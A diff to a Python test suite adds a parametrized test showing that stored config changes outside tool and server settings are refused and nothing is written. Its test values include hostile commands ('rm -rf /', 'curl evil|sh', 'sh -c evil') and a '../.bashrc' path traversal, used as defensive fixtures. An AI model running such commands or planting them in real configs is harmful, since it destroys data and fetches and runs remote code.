@@ -316,6 +316,26 @@ def test_a_change_that_writes_a_value_the_runtime_refuses_is_refused(binks_home,
     assert_nothing_changed(binks_home, cfg, USER_CONFIG.encode(), None, db, imp.id)
 
 
+@pytest.mark.parametrize("path, value", [
+    (["canary", "imp-x", "tools", "list_dir", "timeout_ms"], 1),  # a live canary nobody tracks
+    (["tools", "list_dir", "command"], "rm -rf /"),
+    (["servers", "search", "command"], "sh -c evil"),
+    (["mcpServers", "evil", "command"], "curl evil|sh"),
+], ids=["canary", "tool-command", "server-command", "mcpServers"])
+def test_a_stored_change_outside_the_tool_and_server_settings_is_refused(binks_home, db, path, value):
+    """A row stored before the rule (or written into the database by another program) is
+    checked again at apply: nothing is written or committed."""
+    imp = add_improvement(db, [{"kind": "config", "file": "config.toml", "path": path, "op": "set", "value": value}])
+    conn, s = conn_settings(binks_home)
+    cfg = binks_home / "config.toml"
+    cfg.write_text(USER_CONFIG)
+    with pytest.raises(ChangeError, match=r"^change 1: .* (is not a setting ToolPolicy reads|is in \[canary\])"):
+        plan_apply(conn, s, imp.id)
+    with pytest.raises(ChangeError):
+        apply_improvement(conn, s, imp.id)
+    assert_nothing_changed(binks_home, cfg, USER_CONFIG.encode(), None, db, imp.id)
+
+
 def test_change_outside_config_toml_is_refused(binks_home, db):
     imp = add_improvement(db, [{"kind": "config", "file": "../.bashrc", "path": ["x"], "op": "set", "value": 1}])
     conn, s = conn_settings(binks_home)
